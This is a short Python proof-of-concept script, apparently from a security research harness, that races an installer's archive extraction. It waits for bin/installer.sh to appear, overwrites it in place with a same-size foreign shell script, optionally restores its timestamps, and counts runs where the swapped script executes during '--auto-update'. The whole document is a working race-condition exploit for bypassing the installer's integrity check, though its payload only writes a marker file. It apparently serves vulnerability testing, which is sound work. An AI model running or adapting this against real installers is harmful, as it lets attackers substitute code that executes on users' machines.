import sys, os, subprocess, time, threading; sys.path.insert(0,'/work/attack14'); from lib import *
# As soon as bin/installer.sh has its final name (long before the last entry), rewrite it IN PLACE with a foreign
# script of the same size and put its mtime (and atime) back (KEEP=1) or not (KEEP=0). The check runs after the walk.
# A hit: foreign ran. args: N KEEP
N=int(sys.argv[1]); KEEP=int(sys.argv[2]); A='/tmp/attack14-same'; SN='installer.sh'
arch='#!/bin/sh\necho ARCHIVE-SCRIPT\nexit 1\n'+'#'*60+'\n'
ents=[e for e in demo_entries() if not e['name'].endswith((b'installer.sh',b'installer.cmd'))]+[E(REL+'/bin/'+SN,arch,attr=(0x81ED<<16))]+[E(REL+'/www/n%04d.txt'%i,'NEW'*100) for i in range(400)]+[E(REL+'/zz_last.txt','LAST')]
exe=installer('/tmp/attack14-samex', ents); hits=0
for it in range(N):
    fresh(A); T=A+'/T'; mkinst(T); RAN=A+'/RAN'
    f='#!/bin/sh\necho FOREIGN > %s\nexit 0\n'%RAN; f=(f+'#'*len(arch))[:len(arch)-1]+'\n'
    tgt=T+'/'+REL+'/bin/'+SN; res={}
    def w():
        while not os.path.exists(tgt): pass
        time.sleep(0.002); st=os.stat(tgt)
        fd=os.open(tgt,os.O_WRONLY); os.write(fd,f.encode()); os.close(fd)
        if KEEP: os.utime(tgt,ns=(st.st_atime_ns,st.st_mtime_ns))
        res['t']='rewritten size %d->%d'%(st.st_size,os.stat(tgt).st_size)
    th=threading.Thread(target=w,daemon=True); th.start()
    rc,o,e=run(exe,['--auto-update','-d',T]); th.join(5)
    r=os.path.exists(RAN); hits+=r or rc==0
    print('it',it,res.get('t'),'rc',rc,'FOREIGN RAN' if r else '',[l[60:200] for l in errs(e) if 'Rolling' not in l][:2],flush=True)
print('samesize keep',KEEP,'runs',N,'hits',hits)
